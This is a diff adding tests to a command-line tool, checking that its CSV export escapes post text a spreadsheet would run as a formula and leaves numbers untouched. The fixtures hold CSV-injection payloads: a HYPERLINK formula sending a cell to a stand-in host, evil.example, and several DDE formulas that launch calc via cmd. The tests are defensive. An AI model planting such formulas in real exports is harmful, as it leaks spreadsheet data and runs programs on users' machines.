@@ -1,4 +1,5 @@
-"""`miner query --format csv` and spreadsheets: each row of the store is one row of the file, whatever its text."""
+"""`miner query --format csv` and spreadsheets: each row of the store is one row of the file, whatever its text,
+and a text a spreadsheet would run as a formula is written as text unless --csv-raw asks for it as stored."""
 
 from __future__ import annotations
 
@@ -40,3 +41,42 @@ def test_query_csv_quotes_a_carriage_return_so_the_row_stays_one(runner: CliRunn
     rows = _csv(runner, db, "SELECT text || char(13) || 'next row' AS t, 'a' || char(13) || char(10) || 'b' AS u, "
                             "-1.5 AS z FROM posts")
     assert rows == [["t", "u", "z"], ["WhatsApp down\rnext row", "a\r\nb", "-1.5"]]
+
+
+# Posts as strangers write them: the OWASP examples (a link sending the sheet's cells away, DDE running a program),
+# one per character a spreadsheet starts a formula with.
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
+PLAIN = ("WhatsApp down again - cannot send = broken", "'quoted already", "")
+# Cells of the query's own making beside each post: negative numbers (a z-score), numbers written as text, and the
+# triggers behind spaces, a tab and a carriage return.
+SQL = ("SELECT text, -1.5 AS z, -3 AS delta, printf('%.2f', -2.5) AS shown, '+1e3' AS exp, '  =1+1' AS spaced, "
+       "char(9) || 'x' AS tab, char(13) || '=1+1' AS cr, '-' AS dash FROM posts ORDER BY id")
+
+
+def test_query_csv_writes_a_formula_in_post_text_as_text_and_numbers_as_they_are(runner: CliRunner,
+                                                                                 tmp_path: Path) -> None:
+    # A post starting with = (+, -, @) was written as stored, and a spreadsheet opening the csv ran it: the operator's
+    # sheet sent to a stranger's server, or a program started.
+    db = _store(tmp_path, (*FORMULAS, *PLAIN))
+    header, *rows = _csv(runner, db, SQL)
+    assert header == ["text", "z", "delta", "shown", "exp", "spaced", "tab", "cr", "dash"]
+    assert [row[0] for row in rows] == [*("'" + text for text in FORMULAS), *PLAIN]
+    for row in rows:
+        assert row[1:] == ["-1.5", "-3", "-2.50", "+1e3", "'  =1+1", "'\tx", "'\r=1+1", "'-"]
+
+
+def test_query_csv_raw_writes_every_text_as_stored(runner: CliRunner, tmp_path: Path) -> None:
+    db = _store(tmp_path, (*FORMULAS, *PLAIN))
+    rows = _csv(runner, db, SQL, "--csv-raw")[1:]
+    assert [row[0] for row in rows] == [*FORMULAS, *PLAIN]
+    for row in rows:
+        assert row[1:] == ["-1.5", "-3", "-2.50", "+1e3", "  =1+1", "\tx", "\r=1+1", "-"]
+    refused = runner.invoke(main, ["--config", str(ROOT / "feeds.toml"), "--db", str(db), "query", "--format", "json",
+                                   "--csv-raw", SQL])
+    assert refused.exit_code == 2 and "--csv-raw" in refused.output and "--format csv only" in refused.output
